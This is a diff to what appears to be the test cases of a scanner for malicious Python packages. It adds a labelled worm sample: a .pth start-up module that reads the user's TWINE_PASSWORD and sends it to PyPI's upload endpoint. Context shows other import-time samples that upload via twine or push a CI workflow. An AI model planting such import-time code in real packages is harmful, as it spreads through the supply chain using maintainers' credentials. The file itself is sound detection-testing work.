@@ -639,12 +639,26 @@ WORM_TWINE = _init("pubhelper", (
     "    subprocess.run([sys.executable, '-m', 'twine', 'upload', *glob.glob(d + '/*')],\n"
     "                   capture_output=True)\n\n\n"
     "_spread()\n"))
-WORM_UPLOAD_URL = _setup("pypush", (
-    "import os, urllib.request\n\n"
-    "tok = os.environ.get('TWINE_PASSWORD') or ''\n"
-    "req = urllib.request.Request('https://upload.pypi.org/legacy/', data=b'...',\n"
-    "                             headers={'Authorization': 'Basic ' + tok})\n"
-    "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"))
+WORM_UPLOAD_URL = {
+    "pypush-init.pth": "import pypush._up\n",
+    "pypush/__init__.py": "",
+    "pypush/_up.py": (
+        "import os, urllib.request\n\n"
+        "tok = os.environ.get('TWINE_PASSWORD') or ''\n"
+        "req = urllib.request.Request('https://upload.pypi.org/legacy/', data=b'...',\n"
+        "                             headers={'Authorization': 'Basic ' + tok})\n"
+        "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"),
+}
+PUBLISH_SHORTCUT_BENIGN = {
+    "setup.py": (
+        "import os, sys\nfrom setuptools import setup\n\n"
+        "if sys.argv[-1] == 'publish':\n"
+        "    os.system('python setup.py sdist bdist_wheel')\n"
+        "    os.system('twine upload dist/*')\n"
+        "    sys.exit()\n\n"
+        "setup(name='shortcut', version='1.0', packages=['shortcut'])\n"),
+    "shortcut/__init__.py": "",
+}
 WORM_WORKFLOW = _init("ciboost", (
     "import os, subprocess\n\n"
     "_wf = os.path.join(os.getcwd(), '.github', 'workflows', 'boost.yml')\n"
@@ -844,8 +858,11 @@ CASES = [
     Case("worm: builds the project in the working folder and uploads it with twine at "
          "import, when ~/.pypirc exists", "pubhelper", WORM_TWINE, "malicious", ("PV351",),
          kind="wheel"),
-    Case("worm: setup.py posts to PyPI's upload endpoint with the installer's token",
-         "pypush", WORM_UPLOAD_URL, "malicious", ("PV351",)),
+    Case("worm: a .pth start-up module posts to PyPI's upload endpoint with the user's token",
+         "pypush", WORM_UPLOAD_URL, "malicious", ("PV351",), kind="wheel"),
+    Case("benign look-alike: setup.py's `publish` shortcut running twine when the "
+         "maintainer types it (requests' setup.py)", "shortcut", PUBLISH_SHORTCUT_BENIGN,
+         "benign"),
     Case("evasion: a CI workflow written into the working repository and pushed at import",
          "ciboost", WORM_WORKFLOW, "malicious", ("PV351",), kind="wheel"),
     Case("benign look-alike: release CLI that builds, uploads with twine and writes a "
